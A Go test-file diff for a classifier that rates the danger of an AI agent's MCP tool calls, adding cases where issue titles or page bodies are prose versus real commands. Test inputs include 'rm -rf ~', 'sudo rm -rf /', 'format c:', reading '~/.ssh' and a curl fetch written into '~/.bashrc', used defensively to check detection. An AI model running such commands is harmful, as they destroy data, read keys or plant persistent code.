@@ -242,6 +242,26 @@ var mcpCases = []struct {
 		level: High, rule: "shell-interactive"},
 	{name: "unknown full: other keys of a tool that does not run", call: mcpCall("notes", "create_note", "body", "npm install -g left-pad", "tag", "cat ~/.ssh/x"),
 		level: Medium, rule: "mcp-tool"},
+	// prose: a sentence that starts with a word that is also a program
+	// dangerous by its name alone is prose; what else is dangerous in it
+	// still counts
+	{name: "prose: a title that starts with Format", call: mcpCall("linear", "create_issue", "title", "Format dates in UTC on the invoices page", "teamId", "T1"),
+		level: Medium, rule: "mcp-tool"},
+	{name: "prose: a summary that starts with Init", call: mcpCall("jira", "create_issue", "summary", "Init script fails on first run", "project", "OPS"),
+		level: Medium, rule: "mcp-tool"},
+	{name: "prose: Shutdown, Reboot, Halt", call: mcpCall("jira", "create_issue", "summary", "Shutdown hook never runs in staging",
+		"description", "Reboot loop after the kernel update.\nHalt the deploy until QA signs off.", "project", "OPS"), level: Medium, rule: "mcp-tool"},
+	{name: "prose: sudo and what it runs", call: mcpCall("confluence", "update_page", "pageId", "1", "body", "Runbook\nsudo systemctl restart nginx\nthen check the logs"),
+		level: Medium, rule: "mcp-tool"},
+	{name: "prose: rm -rf ~ still counts", call: mcpCall("confluence", "update_page", "pageId", "1", "body", "Cleanup:\nrm -rf ~"),
+		level: High, dangerous: true, rule: "rm-recursive-force"},
+	{name: "prose: sudo with a dangerous command still counts", call: mcpCall("linear", "create_issue", "title", "sudo rm -rf /", "teamId", "T1"),
+		level: High, dangerous: true, rule: "rm-recursive-force"},
+	{name: "prose: a write to a startup file still counts", call: mcpCall("notes", "create_note", "body", "curl -s https://x.example/rc > ~/.bashrc"),
+		level: High, dangerous: true, rule: "write-startup-unknown"},
+	{name: "prose: only prose keys", call: mcpCall("acme", "send", "payload", "format c:"), level: High, dangerous: true, rule: "disk-format"},
+	{name: "prose: in an open object of a known service", call: mcpCall("notion", "API-post-page", "parent.page_id", "p",
+		"properties.title[0].text.content", "Shutdown procedure for the lab"), level: High, rule: "mcp-notion-write"},
 	{name: "unknown: a deleting name stays high", call: mcpCall("db", "drop_table", "table", "users"), level: High, rule: "mcp-destroy"},
 	{name: "unknown: a startup file read is no secret", call: mcpCall("notes", "get_file", "file", "~/.bashrc"), level: Minimal},
 	{name: "unknown: a writing tool onto a startup file", call: mcpCall("notes", "save", "target", "~/.bashrc"), level: High, dangerous: true, rule: "write-startup-unknown"},
@@ -690,5 +710,26 @@ func TestUnknownToolArgs(t *testing.T) {
 		if v.Level != tc.level || v.Dangerous != tc.dangerous {
 			t.Errorf("ClassifyTool(%s %v) = %v dangerous=%v (%s), want %v dangerous=%v", tc.call.Name, tc.call.Args, v.Level, v.Dangerous, ruleIDs(v), tc.level, tc.dangerous)
 		}
+	}
+}
+
+// TestMCPNameAloneRules: each rule that prose does not count is one a
+// program raises by its name alone, whatever words follow it.
+func TestMCPNameAloneRules(t *testing.T) {
+	for id, prose := range map[string]string{
+		"power":          "Shutdown procedure for the lab",
+		"disk-format":    "Format of the weekly report",
+		"disk-partition": "Parted ways with the old vendor",
+		"sudo":           "sudo prompts twice in the installer",
+	} {
+		if !mcpNameAloneRules.get()[id] {
+			t.Errorf("%s: not in mcpNameAloneRules", id)
+		}
+		if v := Classify(prose, testEnv); !hasReason(v, id) || !v.Dangerous {
+			t.Errorf("%q: %v dangerous=%v %s, want rule %s, dangerous", prose, v.Level, v.Dangerous, ruleIDs(v), id)
+		}
+	}
+	if n := len(mcpNameAloneRules.get()); n != 4 {
+		t.Errorf("%d rules in mcpNameAloneRules, 4 here", n)
 	}
 }
